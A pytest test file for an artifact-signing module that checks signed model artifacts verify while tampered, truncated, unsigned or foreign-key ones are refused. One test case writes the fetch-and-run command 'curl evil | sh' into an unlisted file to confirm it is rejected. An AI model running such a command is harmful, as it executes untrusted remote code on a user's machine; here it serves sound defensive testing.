"""Ed25519-signed artifacts: signed ones verify; tampered, truncated, unsigned or foreign ones do not."""

from __future__ import annotations

import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from edgebert.errors import ArtifactError, InputError
from edgebert.fleet.signing import keygen, sign, verify


@pytest.fixture()
def signed(tiny_artifact, tmp_path: Path) -> tuple[Path, Path, Path]:
    key, pub = keygen(tmp_path / "keys")
    art = Path(shutil.copytree(tiny_artifact.path, tmp_path / "art"))
    sign(art, key)
    return art, key, pub


def test_signed_artifact_verifies_and_the_private_key_is_private(signed) -> None:
    art, key, pub = signed

    assert verify(art, pub).manifest.precision == "int8"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    with pytest.raises(InputError, match="existing fleet key"):
        keygen(key.parent)


@pytest.mark.parametrize("damage, match", [
    (lambda a: (a / "manifest.json").write_text((a / "manifest.json").read_text().replace("int8", "fp32", 1)),
     "does not match"),
    (lambda a: (a / "model.onnx").write_bytes((a / "model.onnx").read_bytes()[:-100]), "truncated"),
    (lambda a: (a / "model.onnx").write_bytes(b"\x00" + (a / "model.onnx").read_bytes()[1:]), "tampered"),
    (lambda a: (a / "manifest.sig").unlink(), "found no signature"),
    (lambda a: (a / "payload.sh").write_text("curl evil | sh"), "unlisted payload.sh"),  # issue 11
])
def test_tampered_truncated_or_unsigned_artifacts_are_refused(signed, damage, match: str) -> None:
    art, _, pub = signed
    damage(art)

    with pytest.raises(ArtifactError, match=match):
        verify(art, pub)


def test_a_foreign_key_is_refused(signed, tmp_path: Path) -> None:
    art, _, _ = signed
    _, other_pub = keygen(tmp_path / "other")

    with pytest.raises(ArtifactError, match="foreign key"):
        verify(art, other_pub)


def test_cli_keygen_sign_verify_and_exit_2_on_tampering(tiny_artifact, tmp_path: Path) -> None:
    art = Path(shutil.copytree(tiny_artifact.path, tmp_path / "art"))

    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run([sys.executable, "-m", "edgebert", "fleet", *args], capture_output=True, text=True,
                              timeout=120)

    assert run("keygen", "--out", str(tmp_path / "k")).returncode == 0
    assert run("sign", str(art), "--key", str(tmp_path / "k" / "fleet.key")).returncode == 0
    ok = run("verify", str(art), "--pub", str(tmp_path / "k" / "fleet.pub"))
    (art / "tokenizer.json").write_text("{}")
    bad = run("verify", str(art), "--pub", str(tmp_path / "k" / "fleet.pub"))

    assert ok.returncode == 0 and "verified" in ok.stdout
    assert bad.returncode == 2 and bad.stderr.count("\n") == 1 and "tokenizer.json" in bad.stderr
